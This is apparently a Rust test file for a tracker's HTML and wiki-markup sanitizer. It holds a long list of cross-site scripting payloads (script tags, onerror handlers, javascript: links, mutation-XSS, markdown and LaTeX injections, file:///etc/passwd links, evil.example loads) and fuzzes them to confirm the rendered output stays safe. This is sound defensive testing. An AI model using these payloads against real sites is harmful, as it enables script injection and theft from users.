//! Hostile texts: whatever is written, the page holds only tags, attributes and schemes that it may hold, judged by reading
//! the answer as a browser would (classes 1, 4 and 5 of the vulnerabilities that other trackers had).

use proptest::prelude::*;
use scraper::node::Node;
use scraper::{ElementRef, Html};
use trackway::base::markup::Flavour;

use super::world;

const TAGS: [&str; 93] = [
    "html", "a", "abbr", "b", "bdi", "bdo", "blockquote", "br", "caption", "cite", "code", "col", "colgroup", "dd",
    "del", "details", "dfn", "div", "dl", "dt", "em", "figcaption", "figure", "h1", "h2", "h3", "h4", "h5", "h6", "hr",
    "i", "img", "input", "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "s", "samp", "small", "span", "strong",
    "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul", "var", "wbr", "math",
    "mrow", "mi", "mn", "mo", "ms", "mtext", "mspace", "mfrac", "msqrt", "mroot", "mstyle", "merror", "mpadded",
    "mphantom", "msub", "msup", "msubsup", "munder", "mover", "munderover", "mmultiscripts", "mprescripts", "mtable",
    "mtr", "mtd", "th", "td", "tr", "ul", "li", "p", "i",
];
const ATTRIBUTES: [&str; 53] = [
    "tabindex", "href", "title", "class", "id", "lang", "dir", "src", "alt", "width", "height", "align", "colspan",
    "rowspan", "scope", "start", "type", "reversed", "value", "open", "span", "rel", "loading", "aria-label",
    "disabled", "checked", "data-task", "display", "accent", "accentunder", "columnalign", "columnlines",
    "columnspacing", "columnspan", "depth", "displaystyle", "fence", "form", "frame", "largeop", "linethickness",
    "lspace", "mathvariant", "maxsize", "minsize", "movablelimits", "notation", "rowlines", "rowspacing", "rspace",
    "scriptlevel", "separator", "stretchy",
];
pub const SCHEMES: [&str; 20] = [
    "http", "https", "mailto", "ftp", "ftps", "sftp", "git", "ssh", "svn", "irc", "ircs", "xmpp", "news", "nntp",
    "sip", "sips", "tel", "magnet", "geo", "webcal",
];

/// What is wrong with a page, if anything is.
fn problem(html: &str) -> Option<String> {
    if let Some(mark) = html.chars().find(|c| ('\u{100000}'..='\u{10FFFF}').contains(c)) {
        return Some(format!("a mark of ours, {mark:?}"));
    }
    let tree = Html::parse_fragment(html);
    tree.root_element().descendants().find_map(|node| match node.value() {
        Node::Element(_) => ElementRef::wrap(node).and_then(wrong_element),
        Node::Comment(_) | Node::Doctype(_) | Node::ProcessingInstruction(_) => Some("no element".to_owned()),
        _ => None,
    })
}

fn wrong_element(element: ElementRef<'_>) -> Option<String> {
    let name = element.value().name();
    if !TAGS.contains(&name) {
        return Some(format!("<{name}>"));
    }
    for (key, value) in element.value().attrs() {
        if !ATTRIBUTES.contains(&key) && key != "symmetric" {
            return Some(format!("<{name} {key}={value:?}>"));
        }
        let allowed = match key {
            "href" | "src" => scheme(value).is_none_or(|scheme| SCHEMES.contains(&scheme.as_str())),
            "type" if name == "input" => value == "checkbox",
            _ => true,
        };
        if !allowed {
            return Some(format!("<{name} {key}={value:?}>"));
        }
        let remote = scheme(value).is_some() || leads_away(value);
        if name == "img" && key == "src" && remote && !value.starts_with("https://img.example.org/") {
            return Some(format!("an image from elsewhere: {value}"));
        }
    }
    if name == "input" && (element.value().attr("disabled").is_none() || element.value().attr("class") != Some("task"))
    {
        return Some("an input that is no task box".to_owned());
    }
    let outside = element.value().attr("href").is_some_and(|href| scheme(href).is_some() || leads_away(href));
    if outside && element.value().attr("rel") != Some("nofollow noopener ugc") {
        return Some("a link outside without rel".to_owned());
    }
    None
}

/// An address as browsers read it, who skip tabs and line breaks, and blanks before it, and take `\` for `/`.
fn as_browsers(address: &str) -> String {
    let read: String = address.chars().filter(|c| !"\t\n\r".contains(*c)).collect();
    read.trim_start_matches(|c| c <= ' ').replace('\\', "/")
}

pub fn scheme(address: &str) -> Option<String> {
    let address = as_browsers(address);
    let (scheme, _) = address.split_once(':')?;
    let scheme = scheme.to_ascii_lowercase();
    let valid = scheme.starts_with(|c: char| c.is_ascii_lowercase())
        && scheme.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "+-.".contains(c));
    valid.then_some(scheme)
}

pub fn leads_away(address: &str) -> bool {
    as_browsers(address).starts_with("//")
}

/// What would do harm if it came through.
pub const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0C>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src='x' srcset='https://evil.example/x 2x'>",
    "<img src=https://evil.example/x.png>",
    "<img src=//evil.example/x.png>",
    "<img src='/\\evil.example/x.png'>",
    "<img src='\\\\evil.example\\x.png'>",
    "<img src=\"/\t/evil.example/x.png\">",
    "<img src=https:evil.example/x.png>",
    "<img src=https://img.example.org@evil.example/x.png>",
    "<img src=https://img.example.org.evil.example/x.png>",
    "<img src='https://img.example.org\\@evil.example/'>",
    "<img src=javascript:alert(1)>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><foreignObject><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi xlink:href=data:x,<script>alert(1)</script>>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=blob:https://x>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href=https://evil.example target=_blank rel=opener ping=https://evil.example>x</a>",
    "<a href=x onclick=alert(1) onfocus=alert(1) autofocus tabindex=1>x</a>",
    "<a id=search name=attributes>x</a>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<input type=text name=user><button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<template><script>alert(1)</script></template>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<table><td background=javascript:alert(1)>x</td></table>",
    "<table><caption><svg><title><table><caption></title><img src=x onerror=alert(1)>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=x onerror=alert(1)>",
    "<frameset onload=alert(1)>",
    "<applet code=x>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=https://evil.example/x.js></layer>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<div slot=x is=x part=x contenteditable>x</div>",
    "<p id=\"fn:1\">x</p><p class=\"missing macro-box external\">x</p>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<img src=x onerror=alert(1)//",
    "<<img src=x onerror=alert(1)>>",
    "</p><script>alert(1)</script>",
    "<a href=\"x\" title='\"><script>alert(1)</script>'>x</a>",
    "<abbr title=\"&quot;><img src=x onerror=alert(1)>\">x</abbr>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    "[x](https://x \"\\\" onmouseover=alert(1) x=\\\"\")",
    "[x](https://x '\"><script>alert(1)</script>')",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x]: https://x (\"><script>alert(1)</script>)\n[x]",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    "![x\" onerror=\"alert(1)](y)",
    "![x](https://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    "![x](/\\evil.example/x.png)",
    "![x](https://img.example.org/ok.png)",
    "![<script>alert(1)</script>](x \"<script>\")",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<https://x\"onmouseover=alert(1)>",
    "<a@b.c\"onmouseover=alert(1)>",
    "https://x/\"onmouseover=\"alert(1)",
    "https://x/<script>alert(1)</script>",
    "javascript:alert(1)",
    "javascript://x/%0Aalert(1)",
    "mailto:x@y.z\"onmouseover=alert(1)",
    "www.x.y\"><script>alert(1)</script>",
    "[[javascript:alert(1)]]",
    "[[javascript:alert(1)|x]]",
    "[[javascript://%0Aalert(1)|x]]",
    "[[data:text/html,x|x]]",
    "[[Page|<script>alert(1)</script>]]",
    "[[<script>alert(1)</script>]]",
    "[[\"><img src=x onerror=alert(1)>]]",
    "[[Page#\"><script>alert(1)</script>]]",
    "[[https://x\"onmouseover=alert(1)|x]]",
    "[[wiki:javascript:alert(1)]]",
    "wiki:\"\"><script>alert(1)</script>\"",
    "wiki:\"Two Words\" onmouseover=alert(1)",
    "ticket:1\"onmouseover=alert(1)",
    "milestone:\"<script>alert(1)</script>\"",
    "search:\"<img src=x onerror=alert(1)>\"",
    "query:?x=\"><script>alert(1)</script>",
    "source:<script>alert(1)</script>",
    "attachment:\"x\" onerror=\"alert(1)\"",
    "![x](attachment:\"onerror=alert(1))",
    "![\"onerror=alert(1) x=\"](attachment:x.png)",
    "@kim<script>alert(1)</script>",
    "Evil:x",
    "[x](Evil:x)",
    "[[Evil:x|y]]",
    "MeatBall:\"onmouseover=alert(1)",
    "MeatBall:<script>alert(1)</script>",
    "[x](MeatBall:\"onmouseover=alert(1))",
    "RFC:../../x",
    "other-project:\"onmouseover=alert(1)",
    "other-project:wiki:<script>alert(1)</script>",
    "[[Badge(<script>alert(1)</script>)]]",
    "[[Badge(\"><img src=x onerror=alert(1)>\")]]",
    "[[<b>(x)]]",
    "[[Nope(<script>alert(1)</script>)]]",
    "[[Fail]]",
    "[[TitleIndex(<img src=x onerror=alert(1)>)]]",
    "```Badge(<script>)\n<script>alert(1)</script>\n```",
    "```TitleIndex(\"><img src=x onerror=alert(1)>)\n</pre><script>alert(1)</script>\n```",
    "```Nope(<script>alert(1)</script>)\nx\n```",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "```html\n</span></code></pre><script>alert(1)</script>\n```",
    "```rust onload=alert(1)\nlet a = \"</span><script>alert(1)</script>\";\n```",
    "```math\n</math><script>alert(1)</script>\n```",
    "```math\n\\text{</mtext><script>alert(1)</script>}\n```",
    "```mermaid\ngraph TD; A[\"<img src=x onerror=alert(1)>\"]\n```",
    "    </pre><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{</mtext></math><script>alert(1)</script>}$",
    "$</math><script>alert(1)</script>$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\url{javascript:alert(1)}$",
    "$\\html{<script>}$ $\\class{x}{y}$ $\\style{color:red}{x}$ $\\cssId{x}{y}$",
    "$\\color{\"><script>alert(1)</script>}{x}$",
    "$\\unknown<script>alert(1)</script>$",
    "$$\\begin{array}{c\"onload=alert(1)}x\\end{array}$$",
    "$$\\operatorname{<img src=x onerror=alert(1)>}$$",
    "$$\\mbox{<img src=x onerror=alert(1)>}$$",
    "$$\\def\\x{<script>}\\x$$",
    "$$\\includegraphics{https://evil.example/x.png}$$",
    "$$\\genfrac{<}{>}{0pt}{0}{a}{b} \\left<x\\right> a<b>c$$",
    "$$\\hspace{1em\"onload=alert(1)}$$",
    "$$\\rule{1em}{\"><script>}$$",
    "# <script>alert(1)</script>",
    "# \"><img src=x onerror=alert(1)>",
    "# x {onclick=alert(1)}",
    "# x {#search .missing}",
    "<h2 id=\"x\" onclick=alert(1)>x</h2>",
    "- [x] <input type=text>",
    "- [ ] <script>alert(1)</script>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "[^\"><script>]\n\n[^\"><script>]: x",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "| a | b |\n|:--\"onclick=alert(1)|---|\n| x | y |",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "> [!<script>alert(1)</script>]\n> x",
    "a\n: <script>alert(1)</script>",
    "H~<script>~ x^<img src=x onerror=alert(1)>^",
    "~~<script>alert(1)</script>~~",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} #{alert(1)} <%= alert(1) %> {% include '/etc/passwd' %}",
    ".. raw:: html\n   :file: /etc/passwd",
    "{{{\n#!html\n<script>alert(1)</script>\n}}}",
    "<div>\n\n[[TitleIndex]]\n\n<script>alert(1)</script>\n\n</div>",
    "<a href=\"#12\">#12 [[Page]] [[Badge]]</a>",
    "<a title=\"[[Page]]\" href=\"[[Page]]\">x</a>",
    "<img alt=\"[[Badge(x)]]\" src=\"wiki:Page\">",
    "<p title='#12 [[TitleIndex]]'>[[TitleIndex]]</p>",
    "<code>[[Page]] #12</code> <pre>[[TitleIndex]]</pre>",
    "<table>[[TitleIndex]]<tr>#12<td>[[Page]]</table>",
    "<b>[[Page|x</b><script>alert(1)</script>]]",
    "*[[Page*]]* **#12**",
    "\u{10FF00}\u{10FF10}\u{10FF01}",
    "&#x10FF00;&#x10FF10;&#x10FF01;",
    "<a href=\"&#1113856;&#1113872;&#1113857;\">x</a>",
    "<p title=&#x10FF00&#x10FF10&#x10FF01>x</p>",
    "[x](&#x10FF00;&#x10FF10;&#x10FF01;) #12",
    "<p id=\"&#x10FF03;x\">#12</p>",
    "# &#x10FF03;x\n#12",
    "\u{0}<script\u{0}>alert(1)</script>",
    "<scr\u{0}ipt>alert(1)</script>",
    "\u{202E}<script>alert(1)</script>",
    "\u{FEFF}<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<script\u{2028}>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "<p>&lt;script&gt;</p>",
    "<kbd>Ctrl</kbd> <mark>x</mark> H<sub>2</sub>O <details><summary>s</summary>\n\n*x*\n\n</details>",
];

const FLAVOURS: [Flavour; 3] = [Flavour::Page, Flavour::Note, Flavour::Line];

fn judge(text: &str) {
    let options = world::options();
    for flavour in FLAVOURS {
        let html = world::page_of(text, flavour, &options);
        if let Some(problem) = problem(&html) {
            panic!("{problem}\nin {html}\nof {text:?} as {flavour:?}");
        }
    }
}

#[test]
fn every_payload_is_harmless_wherever_it_stands() {
    for payload in PAYLOADS {
        for text in [
            (*payload).to_owned(),
            format!("word {payload} word"),
            format!("*{payload}*"),
            format!("- {payload}\n  - {payload}"),
            format!("> {payload}\n"),
            format!("# {payload}"),
            format!("[{payload}](https://example.org/)"),
            format!("[x](https://example.org/ \"{payload}\")"),
            format!("![{payload}](x.png)"),
            format!("[[Page|{payload}]]"),
            format!("[[{payload}]]"),
            format!("[[Badge({payload})]]"),
            format!("wiki:\"{payload}\""),
            format!("| a |\n|---|\n| {payload} |"),
            format!("[^1]\n\n[^1]: {payload}"),
            format!("`{payload}`"),
            format!("```html\n{payload}\n```"),
            format!("${payload}$"),
            format!("<div>{payload}</div>"),
            format!("<p title=\"{payload}\">x</p>"),
            format!("<a href='{payload}'>x</a>"),
            format!("<details>\n\n{payload}\n\n</details>"),
        ] {
            judge(&text);
        }
    }
}

/// xorshift: the same mutations on every machine.
struct Dice(u64);

impl Dice {
    fn below(&mut self, bound: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        usize::try_from(self.0 % bound.max(1) as u64).unwrap_or(0)
    }
}

const SPLINTERS: &[&str] = &[
    "<",
    ">",
    "\"",
    "'",
    "`",
    "\n",
    "\n\n",
    " ",
    "[[",
    "]]",
    "](",
    ")",
    "|",
    "\\",
    "&",
    "&#",
    ";",
    "<!--",
    "-->",
    "</",
    "/>",
    "$",
    "$$",
    "```",
    "<p>",
    "</p>",
    "<a href=",
    "<table>",
    "</table>",
    "<svg>",
    "<math>",
    "<style>",
    "</style>",
    "#12",
    "[[TitleIndex]]",
    "[[Badge(a)]]",
    "wiki:Page",
    "\u{10FF00}\u{10FF10}\u{10FF01}",
    "&#x10FF00;",
    "javascript:",
    "onerror=",
    "![",
    "> ",
    "- ",
    "# ",
    "~~",
    "^",
    "*",
    "_",
    "[^1]",
    "\u{0}",
    "http://a.b/",
];

#[test]
fn mutated_payloads_are_harmless_too() {
    let mut dice = Dice(0x7ac4_3a91_55d0_0b17);
    for _ in 0..4000 {
        let mut text = String::new();
        for _ in 0..=dice.below(3) {
            text.push_str(PAYLOADS[dice.below(PAYLOADS.len())]);
            text.push_str(SPLINTERS[dice.below(SPLINTERS.len())]);
        }
        for _ in 0..=dice.below(6) {
            let mut at = dice.below(text.len() + 1);
            while !text.is_char_boundary(at) {
                at -= 1;
            }
            match dice.below(3) {
                0 => text.insert_str(at, SPLINTERS[dice.below(SPLINTERS.len())]),
                1 => {
                    let mut end = (at + dice.below(8)).min(text.len());
                    while !text.is_char_boundary(end) {
                        end += 1;
                    }
                    text.replace_range(at..end, "");
                }
                _ => {
                    let tail = text.split_off(at);
                    text = tail + &text;
                }
            }
        }
        judge(&text);
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    /// Whatever stands around it, a text with tokens of its own has no more holes than the same text with U+FFFD instead.
    #[test]
    fn no_input_forges_a_hole(
        before in r##"([\[\]<>"'&#;a-z0-9 *`$|(){}!\\]|&#x10FF0[0-3];|&#x10FF1[0-9a-f]|[\u{10FF00}-\u{10FF1F}]|#12|\[\[Page\]\]|<a href="){0,24}"##,
        after in r##"([\[\]<>"'&#;a-z0-9 *`$|(){}!\\]|&#1113856;|&#x0010ff11;|[\u{10FF00}-\u{10FF1F}]|wiki:Page|">x</a>){0,24}"##,
    ) {
        let options = world::options();
        let forged = format!("{before} #12 {after}");
        let html = world::page_of(&forged, Flavour::Page, &options);
        prop_assert!(problem(&html).is_none(), "{:?} in {}", problem(&html), html);
        let harmless: String = forged.chars().map(|c| if ('\u{100000}'..).contains(&c) { '\u{FFFD}' } else { c }).collect();
        prop_assert_eq!(html, world::page_of(&harmless, Flavour::Page, &options));
    }

    #[test]
    fn any_text_compiles(text in r"\PC{0,200}") {
        judge(&text);
    }
}
